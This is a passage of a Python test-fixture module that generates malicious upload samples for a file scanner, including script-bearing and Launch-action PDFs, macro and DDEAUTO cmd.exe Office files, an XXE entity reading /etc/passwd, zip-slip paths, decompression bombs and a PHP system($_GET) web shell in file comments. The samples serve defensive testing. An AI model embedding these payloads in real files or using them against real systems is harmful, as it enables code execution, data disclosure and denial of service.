"""Files with which somebody might try us, each with the verdict it must get, and good ones that must pass.

Made here byte by byte, so that nothing dangerous lies in the repository: scripts do nothing, bombs are small packed.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from functools import cache, partial
from random import Random
from typing import Any

import xlsxwriter
from PIL import Image, ImageDraw, PngImagePlugin

MOST = 7 * 1024 * 1024
PDF, JPEG, PNG, WEBP = "application/pdf", "image/jpeg", "image/png", "image/webp"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
WORD_MAIN, SHEET_MAIN = f"{DOCX}.main+xml", f"{XLSX}.main+xml"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + rb"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass(frozen=True)
class Sample:
    """A file as somebody sends it: what it is about, its name and declared type, and the verdict it must get."""

    about: str
    make: Callable[[], bytes]
    name: str
    verdict: str  # a reason, or the kind that is released
    declared: str = ""

    @property
    def data(self) -> bytes:
        """Its bytes."""
        return self.make()


# -- PDF -----------------------------------------------------------------------------------------------------------

Objects = Mapping[int, bytes]
PAGE = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"}
TEXT = b"BT /F1 24 Tf 100 700 Td (SK pengangkatan) Tj ET"


def stream(content: bytes, head: bytes = b"", *, packed: bool = False) -> bytes:
    """A stream object with this content."""
    body = zlib.compress(content) if packed else content
    flate = b"/Filter /FlateDecode " if packed else b""
    return b"<< %s%s/Length %d >>\nstream\n%s\nendstream" % (head, flate, len(body), body)


def pdf(changed: Objects | None = None, *, trailer: bytes = b"", behind: bytes = b"", catalog: bytes = b"",
        page: bytes = b"") -> bytes:
    """A whole PDF of one page; `changed` objects replace or join its own, the rest goes into their dictionaries."""
    objects = {**PAGE, 4: stream(TEXT), **(changed or {})}
    objects[1] = objects[1].replace(b">>", catalog + b" >>", 1) if catalog else objects[1]
    objects[3] = objects[3].replace(b">>", page + b" >>", 1) if page else objects[3]
    out, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {}
    for number, body in sorted(objects.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, place in places.items():
        out += b"%d 1\n%010d 00000 n \n" % (number, place)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n%s" % (
        max(places) + 1, trailer, table, behind)
    return bytes(out)


def modern_pdf(hidden: Objects) -> bytes:
    """A PDF whose objects, hidden ones too, are packed together, and whose table is a stream."""
    inner = {**{number: body for number, body in PAGE.items() if number != 1},
             1: PAGE[1].replace(b">>", b"/Extra 9 0 R >>"), **hidden}
    heads, bodies = [], b""
    for number, body in sorted(inner.items()):
        heads.append(f"{number} {len(bodies)}")
        bodies += body + b" "
    head = " ".join(heads).encode() + b" "
    packed = stream(head + bodies, b"/Type /ObjStm /N %d /First %d " % (len(inner), len(head)), packed=True)
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places: dict[int, tuple[int, int, int]] = {0: (0, 0, 65535)}
    for number, body in ((4, stream(TEXT)), (20, packed)):
        places[number] = (1, len(out), 0)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    places |= {number: (2, 20, index) for index, number in enumerate(sorted(inner))}
    table = len(out)
    places[21] = (1, table, 0)
    rows = b"".join(struct.pack(">BIH", *row) for _, row in sorted(places.items()))
    index = b" ".join(b"%d 1" % number for number in sorted(places))
    out += b"21 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (
        stream(rows, b"/Type /XRef /Size 22 /W [1 4 2] /Index [%s] /Root 1 0 R " % index, packed=True), table)
    return bytes(out)


def updated_pdf(added: bytes) -> bytes:
    """A harmless PDF to which a later version was appended."""
    first = pdf()
    before = first.rindex(b"xref\n", 0, first.rindex(b"startxref"))
    place = len(first)
    update = b"1 0 obj\n%s\nendobj\n" % added
    table = b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 5 /Root 1 0 R /Prev %d >>\n" % (place, before)
    return first + update + table + b"startxref\n%d\n%%%%EOF\n" % (place + len(update))


def large_pdf() -> bytes:
    """As large as a file may be: a scanned picture and thousands of objects."""
    noise = Random(1).randbytes(5_000_000)
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /Border [0 0 0] /Dest [3 0 R /Fit] >>"
    many = dict.fromkeys(range(10, 15_000), link)
    image = stream(noise, b"/Type /XObject /Subtype /Image /Width 2500 /Height 2000 /ColorSpace /DeviceGray "
                          b"/BitsPerComponent 8 ")
    return pdf({5: image, **many})


SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
PDFS: tuple[tuple[str, Callable[[], bytes], str], ...] = (
    ("a script when it is opened", partial(pdf, catalog=b"/OpenAction 5 0 R", changed={5: SCRIPT}), "pdf_script"),
    ("a script in the catalogue itself", partial(pdf, catalog=b"/OpenAction " + SCRIPT), "pdf_script"),
    ("a script spelt in hexadecimal digits",
     partial(pdf, changed={5: b"<< /S /J#61vaScr#69pt /#4aS (app.alert\\(1\\)) >>"}), "pdf_script"),
    ("a script in the tree of names",
     partial(pdf, catalog=b"/Names << /JavaScript << /Names [(a) 5 0 R] >> >>", changed={5: SCRIPT}), "pdf_script"),
    ("a script when a page is opened", partial(pdf, page=b"/AA << /O 5 0 R >>", changed={5: SCRIPT}), "pdf_script"),
    ("a script behind a field", partial(pdf, page=b"/Annots [<< /Subtype /Widget /AA << /K 5 0 R >> >>]",
                                        changed={5: SCRIPT}), "pdf_script"),
    ("a script after a jump", partial(pdf, catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>",
                                      changed={5: SCRIPT}), "pdf_script"),
    ("a script kept in a stream", partial(pdf, changed={5: b"<< /S /JavaScript /JS 6 0 R >>",
                                                        6: stream(b"app.alert(1)", packed=True)}), "pdf_script"),
    ("a script packed with other objects", partial(modern_pdf, {9: SCRIPT}), "pdf_script"),
    ("a script whose kind stands elsewhere", partial(modern_pdf, {
        9: b"<< /S 10 0 R /JS (app.alert\\(1\\)) >>", 10: b"/JavaScript"}), "pdf_script"),
    ("only the text of a script", partial(modern_pdf, {9: b"<< /Type /Action /JS (app.alert\\(1\\)) >>"}),
     "pdf_script"),
    ("a script in an object nothing points to", partial(pdf, changed={77: SCRIPT}), "pdf_script"),
    ("a script in a later version of the file",
     partial(updated_pdf, b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + SCRIPT + b" >>"), "pdf_script"),
    ("a script in an object that the table does not name",
     lambda: pdf().replace(b"xref\n0 1", b"99 0 obj " + SCRIPT + b" endobj\nxref\n0 1", 1), "pdf_script"),
    ("a program to start", partial(pdf, catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "pdf_action"),
    ("a program to start, packed", partial(modern_pdf, {9: b"<< /S /Launch /F (calc.exe) >>"}), "pdf_action"),
    ("a form that is sent off", partial(pdf, changed={5: b"<< /S /SubmitForm /F (http://x.example) >>"}),
     "pdf_action"),
    ("data that are fetched", partial(pdf, changed={5: b"<< /S /ImportData /F (a.fdf) >>"}), "pdf_action"),
    ("another file that is opened", partial(pdf, changed={5: b"<< /S /GoToR /F (\\\\\\\\10.0.0.1\\\\a.pdf) >>"}),
     "pdf_action"),
    ("a file inside that is opened", partial(pdf, changed={5: b"<< /S /GoToE /T << /R /C >> >>"}), "pdf_action"),
    ("an address that is opened by itself",
     partial(pdf, catalog=b"/OpenAction << /S /URI /URI (http://x.example) >>"), "pdf_action"),
    ("an address that a page opens by itself",
     partial(pdf, page=b"/AA << /O << /S /URI /URI (http://x.example) >> >>"), "pdf_action"),
    ("a file inside", partial(pdf, catalog=b"/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>", changed={
        5: b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>", 6: stream(b"MZ", b"/Type /EmbeddedFile ")}),
     "pdf_attachment"),
    ("a file inside, packed", partial(modern_pdf, {9: b"<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>"}),
     "pdf_attachment"),
    ("a file on a page", partial(pdf, page=b"/Annots [<< /Type /Annot /Subtype /FileAttachment /FS 5 0 R >>]"),
     "pdf_attachment"),
    ("a film", partial(pdf, page=b"/Annots [<< /Type /Annot /Subtype /Screen /A << /S /Rendition >> >>]"),
     "pdf_attachment"),
    ("a Flash film", partial(pdf, page=b"/Annots [<< /Type /Annot /Subtype /RichMedia >>]"), "pdf_attachment"),
    ("sound", partial(modern_pdf, {9: b"<< /S /Sound /Sound 4 0 R >>"}), "pdf_attachment"),
    ("an XFA form", partial(pdf, catalog=b"/AcroForm << /XFA [(template) 5 0 R] /Fields [] >>",
                            changed={5: stream(b"<template/>")}), "pdf_xfa"),
    ("an XFA form, packed", partial(modern_pdf, {9: b"<< /XFA 4 0 R /Fields [] >>"}), "pdf_xfa"),
    ("a password", partial(pdf, trailer=b"/Encrypt 5 0 R /ID [<00> <00>]", changed={
        5: b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <%s> /U <%s> >>" % (b"0" * 64, b"0" * 64)}),
     "encrypted"),
    ("a password by a handler nobody knows", partial(pdf, trailer=b"/Encrypt << /Filter /Fasoo >>"), "encrypted"),
    ("its end cut off", lambda: pdf()[:-40], "truncated"),
    ("half of it missing", lambda: large_pdf()[:300_000], "truncated"),
    ("only its first line", lambda: b"%PDF-1.7\n", "truncated"),
    ("nothing between first and last line", lambda: b"%PDF-1.7\nstartxref\n0\n%%EOF\n", "damaged"),
    ("no pages", partial(pdf, changed={2: b"<< /Type /Pages /Kids [] /Count 0 >>"}), "damaged"),
    ("no catalogue", partial(pdf, changed={1: b"null"}), "damaged"),
    ("an archive behind it", lambda: pdf(behind=archive({"a.txt": b"a"})), "two_in_one"),
    ("a page of HTML behind it", partial(pdf, behind=b"<html><script>alert(1)</script></html>"), "two_in_one"),
    ("a page of HTML before it", lambda: b"<html><script>alert(1)</script>" + pdf(), "two_in_one"),
    ("a program before it", lambda: b"MZ\x90\0" + pdf(), "two_in_one"),
    ("packed twice", partial(pdf, changed={4: stream(zlib.compress(zlib.compress(b"\0" * 9_000_000)),
                                                     b"/Filter [/FlateDecode /FlateDecode] ")}), "expands"),
    ("packed objects that grow without end", lambda: bomb_pdf(200_000_000), "damaged"),
    ("a table that claims two billion objects", partial(pdf, trailer=b"/Size 2000000000"), "pdf"),
    ("pages inside pages inside themselves",
     partial(pdf, changed={2: b"<< /Type /Pages /Kids [2 0 R] /Count 1000000 >>"}), "damaged"),
    ("brackets inside brackets", partial(pdf, changed={5: b"[" * 200_000 + b"]" * 200_000}), "damaged"),
    ("an object that is itself", partial(pdf, changed={5: b"5 0 R"}), "damaged"),
)


def bomb_pdf(size: int) -> bytes:
    """A PDF whose packed objects unpack to `size` bytes."""
    whole = modern_pdf({9: b"null"})
    begin, end = whole.index(b"20 0 obj"), whole.index(b"21 0 obj")
    packed = stream(b"1 0 " + b" " * size, b"/Type /ObjStm /N 1 /First 4 ", packed=True)
    return whole[:begin] + b"20 0 obj\n" + packed + b"\nendobj\n" + whole[end:]


# -- archives ------------------------------------------------------------------------------------------------------


def archive(parts: Mapping[str, bytes], **how: Any) -> bytes:
    """A ZIP of these parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how.get("way", zipfile.ZIP_DEFLATED)) as packed:
        for name, content in parts.items():
            part = zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0))
            part.compress_type = how.get("way", zipfile.ZIP_DEFLATED)
            part.external_attr = how.get("attributes", 0o644) << 16
            packed.writestr(part, content)
        packed.comment = how.get("comment", b"")
    return out.getvalue()


def types(main: str, *more: str) -> bytes:
    """The list of types of a document whose main part has this one."""
    rows = "".join(f'<Override PartName="/p{number}" ContentType="{each}"/>' for number, each in enumerate(more))
    return (f'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            f'<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{main}"/>{rows}</Types>').encode()


def relations(*rows: tuple[str, str, str]) -> bytes:
    """Relations by type, target and mode."""
    inner = "".join(f'<Relationship Id="r{number}" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="{mode}"/>'
                    for number, (kind, target, mode) in enumerate(rows))
    return ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f"{inner}</Relationships>").encode()


def body(inner: str = "<w:t>Laporan kegiatan</w:t>") -> bytes:
    """The text of a DOCX."""
    return ('<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            f"<w:body><w:p><w:r>{inner}</w:r></w:p></w:body></w:document>").encode()


def parts_of_docx(**changed: bytes) -> dict[str, bytes]:
    """The parts of a small DOCX; `changed` replaces its list of types, its relations or its text."""
    return {"[Content_Types].xml": changed.get("types", types(WORD_MAIN)),
            "_rels/.rels": relations(("officeDocument", "word/document.xml", "Internal")),
            "word/_rels/document.xml.rels": changed.get("relations", relations()),
            "word/document.xml": changed.get("body", body())}


def docx(more: Mapping[str, bytes] | None = None, **how: Any) -> bytes:
    """A small DOCX with further parts."""
    changed = {name: how.pop(name) for name in ("types", "relations", "body") if name in how}
    return archive({**parts_of_docx(**changed), **(more or {})}, **how)


def xlsx(more: Mapping[str, bytes] | None = None, rows: int = 20) -> bytes:
    """A small XLSX as a library writes it, with further parts."""
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        sheet = book.add_worksheet("Kegiatan")
        for number in range(rows):
            sheet.write_row(number, 0, [number, f"Kegiatan {number}", number * 1.5, "=A1+C1"])
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as made:
        parts = {name: made.read(name) for name in made.namelist()}
    return archive({**parts, **(more or {})})


@cache
def large_xlsx() -> bytes:
    """A table as large as a file may be."""
    random, out = Random(2), io.BytesIO()
    with xlsxwriter.Workbook(out, {"constant_memory": True}) as book:
        sheet = book.add_worksheet()
        for row in range(56_000):
            sheet.write_row(row, 0, [random.random() for _ in range(10)])
    assert MOST * 0.85 < len(out.getvalue()) <= MOST
    return out.getvalue()


def fields(*pieces: str) -> bytes:
    """A text with a field whose code is written in these pieces."""
    return body("".join(f"<w:instrText>{each}</w:instrText>" for each in pieces))


def forged(data: bytes, offset: int, value: bytes, mark: bytes = b"PK\x01\x02") -> bytes:
    """The archive with other bytes in the first entry of its directory."""
    place = data.index(mark) + offset
    return data[:place] + value + data[place + len(value):]


def overlapping(copies: int) -> bytes:
    """Many entries of a directory that all unpack the same bytes: small, and large when it is unpacked."""
    parts = docx({"word/media/image1.png": b"\0" * 3_000_000})
    closing = parts.rindex(b"PK\x05\x06")
    last = parts.rindex(b"PK\x01\x02")
    entry = parts[last:closing]
    name = b"word/media/image1.png"
    again = b"".join(entry.replace(name, b"word/media/imag%02d.pn" % number + b"g"[:1], 1)[:len(entry)]
                     for number in range(copies))
    count = len(parts_of_docx()) + 1 + copies
    size = int.from_bytes(parts[closing + 12:closing + 16], "little") + len(again)
    start = int.from_bytes(parts[closing + 16:closing + 20], "little")
    return parts[:closing] + again + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, size, start, 0)


LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY a%d "%s">' % (number, b"&a%d;" % (number - 1) * 10 if number else b"&a;" * 10) for number in range(9))
    + b"]><a>&a8;</a>")
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
VBA = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
OFFICES: tuple[tuple[str, Callable[[], bytes], str], ...] = (
    ("macros", partial(docx, {"word/vbaProject.bin": VBA}), "office_macro"),
    ("macros, by the type of its main part",
     partial(docx, types=types("application/vnd.ms-word.document.macroEnabled.main+xml")), "office_macro"),
    ("macros under another name", partial(docx, {"word/a.xml": b"<a/>"}, types=types(
        WORD_MAIN, "application/vnd.ms-office.vbaProject")), "office_macro"),
    ("macros, by a relation", partial(docx, relations=relations(("vbaProject", "a.xml", ""))), "office_macro"),
    ("macros in a table", partial(xlsx, {"xl/vbaProject.bin": VBA}), "office_macro"),
    ("macros of Excel 4", partial(xlsx, {"xl/macrosheets/sheet1.xml": b"<a/>"}), "office_macro"),
    ("its own buttons", partial(docx, {"customUI/customUI14.xml": b"<a/>"}), "office_macro"),
    ("a template elsewhere", partial(docx, relations=relations(
        ("attachedTemplate", "http://x.example/a.dotm", "External"))), "office_external"),
    ("a picture elsewhere", partial(docx, relations=relations(
        ("image", "http://x.example/pixel.png", "External"))), "office_external"),
    ("an object elsewhere", partial(docx, relations=relations(
        ("oleObject", "http://x.example/a.html!", "External"))), "office_external"),
    ("a frame elsewhere", partial(docx, relations=relations(("frame", "https://x.example/", "External"))),
     "office_external"),
    ("a link that runs script", partial(docx, relations=relations(
        ("hyperlink", "javascript:alert(1)", "External"))), "office_external"),
    ("a link to a file on the reader's machine", partial(docx, relations=relations(
        ("hyperlink", "file:///C:/Windows/system32/calc.exe", "External"))), "office_external"),
    ("a link to a share", partial(docx, relations=relations(("hyperlink", "\\\\10.0.0.1\\a", "External"))),
     "office_external"),
    ("a link with its mode in other letters", partial(docx, relations=relations(
        ("image", "http://x.example/pixel.png", " EXTERNAL "))), "office_external"),
    ("another table that is read", partial(xlsx, {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}),
     "office_external"),
    ("another table that is read, under another name", partial(docx, {"xl/a.xml": b"<a/>"}, types=types(
        WORD_MAIN, f"{XLSX.removesuffix('.sheet')}.externalLink+xml")), "office_external"),
    ("a connection to a database", partial(xlsx, {"xl/connections.xml": b"<connections/>"}), "office_external"),
    ("a connection under another name", partial(docx, {"xl/a.xml": b"<a/>"}, types=types(
        WORD_MAIN, f"{XLSX.removesuffix('.sheet')}.connections+xml")), "office_external"),
    ("a question to a page elsewhere", partial(xlsx, {"xl/queryTables/queryTable1.xml": b"<queryTable/>"}),
     "office_external"),
    ("a DDE field", partial(docx, body=fields('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
     "office_external"),
    ("a DDE field in pieces", partial(docx, body=fields("DD", "EAU", "TO cmd.exe")), "office_external"),
    ("a DDE field in one element", partial(docx, body=body('<w:fldSimple w:instr="DDE cmd calc"/>')),
     "office_external"),
    ("a DDE link", partial(xlsx, {"xl/a.xml": b"<externalLink><ddeLink/></externalLink>"}), "office_external"),
    ("a text that is fetched", partial(docx, body=fields('INCLUDETEXT "http://x.example/a"')), "office_external"),
    ("an object of another program", partial(docx, {"word/embeddings/oleObject1.bin": VBA}), "office_embedded"),
    ("an object, by the type of a part", partial(docx, {"word/a.xml": b"<a/>"}, types=types(
        WORD_MAIN, "application/vnd.openxmlformats-officedocument.oleObject")), "office_embedded"),
    ("an ActiveX control", partial(docx, {"word/activeX/activeX1.xml": b"<a/>"}), "office_embedded"),
    ("a page of HTML inside", partial(docx, {"word/afchunk.xml": b"<a/>"}, relations=relations(
        ("aFChunk", "afchunk.xml", "Internal"))), "office_embedded"),
    ("a page of HTML inside, by its ending", partial(docx, {"word/a.html": b"<script>alert(1)</script>"}),
     "office_embedded"),
    ("a program inside", partial(docx, {"word/media/a.exe": b"MZ"}), "office_embedded"),
    ("a script inside", partial(docx, {"word/media/a.js": b"alert(1)"}), "office_embedded"),
    ("a Java program inside", partial(docx, {"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe"}),
     "office_embedded"),
    ("an add-in that starts by itself", partial(docx, {"word/webextensions/taskpanes.xml": b"<a/>"}),
     "office_embedded"),
    ("macros in a table inside", lambda: docx({"word/embeddings/a.xlsx": xlsx({"xl/vbaProject.bin": VBA})}),
     "office_macro"),
    ("a table inside a table inside", lambda: docx({"word/embeddings/a.xlsx": xlsx({
        "xl/embeddings/b.xlsx": xlsx()})}), "office_embedded"),
    ("a bomb inside a table inside", lambda: docx({"word/embeddings/a.xlsx": xlsx({
        "xl/a.xml": b"<a>" + b" " * 20_000_000 + b"</a>"})}), "expands"),
    ("entities that multiply", partial(docx, body=LAUGHS), "entities"),
    ("entities that multiply, in another part", partial(xlsx, {"xl/a.xml": LAUGHS}), "entities"),
    ("entities in the list of types", partial(docx, types=LAUGHS), "entities"),
    ("an entity that reads a file", partial(docx, {"docProps/custom.xml": OUTSIDE}), "entities"),
    ("entities in UTF-16", lambda: docx({"word/a.xml": LAUGHS.decode().replace(
        '"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16")}), "entities"),
    ("entities in a picture", partial(docx, {"word/media/a.svg": LAUGHS}), "entities"),
    ("a bomb", partial(docx, {"word/a.xml": b"<a>" + b" " * 30_000_000 + b"</a>"}), "expands"),
    ("a bomb that looks like a picture", partial(docx, {"word/media/a.png": b"\0" * 50_000_000}), "expands"),
    ("a bomb in a table", partial(xlsx, {"xl/worksheets/sheet9.xml": b"<a>" + b"<c/>" * 5_000_000 + b"</a>"}),
     "expands"),
    ("many parts that are too much together", lambda: docx({
        f"word/media/a{number}.png": b"\0" * 3_900_000 for number in range(60)}), "expands"),
    ("more parts than any document has", lambda: docx({f"word/a{number}.xml": b"" for number in range(4100)},
                                                       way=zipfile.ZIP_STORED), "expands"),
    ("elements inside elements", partial(docx, body=b"<a>" * 100_000), "expands"),
    ("a part that says it is smaller than it is", lambda: forged(
        docx({"a.xml": b"<a/>"}), 24, struct.pack("<I", 10)), "damaged"),
    ("a part with a wrong checksum", lambda: forged(docx(), 16, b"\0\0\0\0"), "damaged"),
    ("one part in many places", partial(overlapping, 50), "unsafe_parts"),
    ("a part outside the archive", partial(docx, {"../../etc/cron.d/a.xml": b"<a/>"}), "unsafe_parts"),
    ("a part at an absolute place", partial(docx, {"/etc/passwd.xml": b"<a/>"}), "unsafe_parts"),
    ("a part on a drive", partial(docx, {"C:/Windows/a.xml": b"<a/>"}), "unsafe_parts"),
    ("a part with a backslash", partial(docx, {"..\\..\\a.xml": b"<a/>"}), "unsafe_parts"),
    ("a part with a line break in its name", partial(docx, {"word/a\nb.xml": b"<a/>"}), "unsafe_parts"),
    ("a part that leads elsewhere", partial(docx, attributes=0o120777), "unsafe_parts"),
    ("a part twice", partial(docx, {"WORD/document.xml": body("<w:t>lain</w:t>")}), "unsafe_parts"),
    ("a part packed in an unknown way", partial(docx, way=zipfile.ZIP_BZIP2), "unsafe_parts"),
    ("a part with a password", lambda: forged(docx(), 8, b"\x01\0"), "encrypted"),
    ("a password on all of it", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500 + "EncryptedPackage".encode(
        "utf-16-le") + b"\0" * 500, "encrypted"),
    ("the old format", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1000, "old_office"),
    ("its end cut off", lambda: docx()[:-60], "truncated"),
    ("half of it missing", lambda: large_xlsx()[:1_000_000], "truncated"),
    ("a picture before it", lambda: picture("JPEG") + docx(), "disguised"),
    ("a page of HTML before it", lambda: b"<html><script>alert(1)</script>" + docx(), "not_accepted"),
    ("a page of HTML behind it", lambda: docx() + b"<html><script>alert(1)</script></html>", "two_in_one"),
    ("something in its comment", partial(docx, comment=b"<?php system($_GET[0]); ?>"), "two_in_one"),
    ("something between its parts", lambda: between(docx(), b"<html><script>alert(1)</script></html>" * 3),
     "two_in_one"),
    ("a text and a table in one", partial(docx, types=types(WORD_MAIN, SHEET_MAIN)), "two_in_one"),
    ("no list of types", lambda: archive({"word/document.xml": body()}), "not_accepted"),
    ("an archive of any kind", lambda: archive({"catatan.txt": b"a"}), "not_accepted"),
    ("an OpenDocument text", lambda: archive({"mimetype": b"application/vnd.oasis.opendocument.text"}),
     "not_accepted"),
    ("a template", partial(docx, types=types(f"{WORD_MAIN.replace('document.main', 'template.main')}")),
     "not_accepted"),
)


def between(data: bytes, hidden: bytes) -> bytes:
    """The archive with something hidden before its directory."""
    closing = data.rindex(b"PK\x05\x06")
    start = int.from_bytes(data[closing + 16:closing + 20], "little")
    moved = struct.pack("<I", start + len(hidden))
    return data[:start] + hidden + data[start:closing + 16] + moved + data[closing + 20:]


# -- pictures ------------------------------------------------------------------------------------------------------


def drawn(width: int = 320, height: int = 240, mode: str = "RGB") -> Image.Image:
    """A picture that is not the same everywhere."""
    made = Image.new("RGB", (width, height), "#f3efe4")
    pen = ImageDraw.Draw(made)
    pen.rectangle((width // 8, height // 8, width // 2, height // 2), fill="#9c2f2f")
    pen.ellipse((width // 3, height // 3, width - 9, height - 9), outline="#20418b", width=3)
    return made.convert(mode)


def picture(kind: str = "JPEG", image: Image.Image | None = None, **how: Any) -> bytes:
    """A picture as a camera or program writes it."""
    out = io.BytesIO()
    (image or drawn()).save(out, kind, **how)
    return out.getvalue()


def from_a_phone(kind: str = "JPEG", orientation: int = 6, **how: Any) -> bytes:
    """A picture that tells where and with what it was taken, and that must be turned to be seen upright."""
    exif = Image.Exif()
    exif[0x0112], exif[0x010F], exif[0x0110] = orientation, "Samsung", "SM-A055F"
    exif[0x8825] = {1: "S", 2: (7.0, 9.0, 12.0), 3: "E", 4: (111.0, 52.0, 55.0)}
    return picture(kind, exif=exif, **how)


def noise(width: int, height: int, **how: Any) -> bytes:
    """A JPEG of noise: as large as can be."""
    grey = Image.frombytes("L", (width, height), Random(3).randbytes(width * height))
    return picture("JPEG", grey.convert("RGB"), **how)


@cache
def large_jpeg() -> bytes:
    """As large as a file may be, with as many pixels as a good telephone takes."""
    image = drawn(4624, 3468)
    image.paste(Image.frombytes("L", (2200, 2200), Random(3).randbytes(2200 * 2200)).convert("RGB"), (1000, 1000))
    exif = Image.Exif()
    exif[0x0112] = 6
    return picture("JPEG", image, quality=97, subsampling=0, exif=exif)


def chunk(kind: bytes, content: bytes) -> bytes:
    """A piece of a PNG."""
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def bomb_png(width: int, height: int) -> bytes:
    """A PNG that claims so many pixels; its rows are all alike and packed."""
    row = 1 + 3 * width
    rows = zlib.compressobj(9)
    packed = b"".join(rows.compress(b"\0" * min(row, 10_000)) for _ in range(min(height, 2000))) + rows.flush()
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", packed) + chunk(b"IEND", b""))


def png_with_text(text: bytes) -> bytes:
    """A PNG with a packed text in it."""
    whole = picture("PNG")
    return whole[:33] + chunk(b"zTXt", b"Comment\0\0" + zlib.compress(text)) + whole[33:]


def resized(data: bytes, width: int, height: int) -> bytes:
    """A JPEG whose header claims another size."""
    place = next(data.index(mark) for mark in (b"\xff\xc0", b"\xff\xc2") if mark in data) + 5
    return data[:place] + struct.pack(">HH", height, width) + data[place + 4:]


def animated(kind: str) -> bytes:
    """Two pictures that change."""
    return picture(kind, drawn(), save_all=True, append_images=[drawn().rotate(90)], duration=200)


def webp_claiming(size: int) -> bytes:
    """A lossless WebP whose header claims a square of this size."""
    whole = bytearray(picture("WEBP", lossless=True))
    place = whole.index(b"VP8L") + 9
    whole[place:place + 4] = struct.pack("<I", (size - 1) | (size - 1) << 14)
    return bytes(whole)


PICTURES: tuple[tuple[str, Callable[[], bytes], str, str], ...] = (
    ("an archive behind a JPEG", lambda: picture("JPEG") + docx(), "a.jpg", "two_in_one"),
    ("an archive behind a PNG", lambda: picture("PNG") + archive({"a.exe": b"MZ"}), "a.png", "two_in_one"),
    ("a page of HTML behind a JPEG", lambda: picture("JPEG") + b"<HTML><body>", "a.jpg", "two_in_one"),
    ("a script in the comment of a JPEG", lambda: picture("JPEG", comment=b"<script>alert(1)</script>"), "a.jpg",
     "two_in_one"),
    ("PHP in the comment of a JPEG", lambda: picture("JPEG", comment=b"<?php system($_GET[0]); ?>"), "a.php.jpg",
     "two_in_one"),
    ("a script in the text of a PNG", lambda: picture("PNG", pnginfo=a_text("<script>alert(1)</script>")), "a.png",
     "two_in_one"),
    ("a PDF behind a PNG", lambda: picture("PNG") + pdf(), "a.png", "two_in_one"),
    ("a PDF in the comment of a JPEG", lambda: picture("JPEG", comment=pdf()), "a.jpg", "two_in_one"),
    ("an SVG in a WebP", lambda: picture("WEBP") + b'<svg onload="a()" xmlns="http://www.w3.org/2000/svg"/>',
     "a.webp", "two_in_one"),
    ("a JPEG cut in half", lambda: picture("JPEG")[:2000], "a.jpg", "truncated"),
    ("a JPEG without its end", lambda: picture("JPEG")[:-2], "a.jpg", "truncated"),
    ("a PNG cut in half", lambda: picture("PNG")[:600], "a.png", "truncated"),
    ("a WebP cut in half", lambda: picture("WEBP")[:300], "a.webp", "truncated"),
    ("only the beginning of a JPEG", lambda: b"\xff\xd8\xff\xe0" + b"\0" * 50, "a.jpg", "truncated"),
    ("a JPEG header and noise", lambda: b"\xff\xd8\xff\xe0" + Random(5).randbytes(3000) + b"\xff\xd9", "a.jpg",
     "damaged"),
    ("a PNG header and noise", lambda: b"\x89PNG\r\n\x1a\n" + Random(5).randbytes(3000) + b"IEND\xaeB`\x82", "a.png",
     "damaged"),
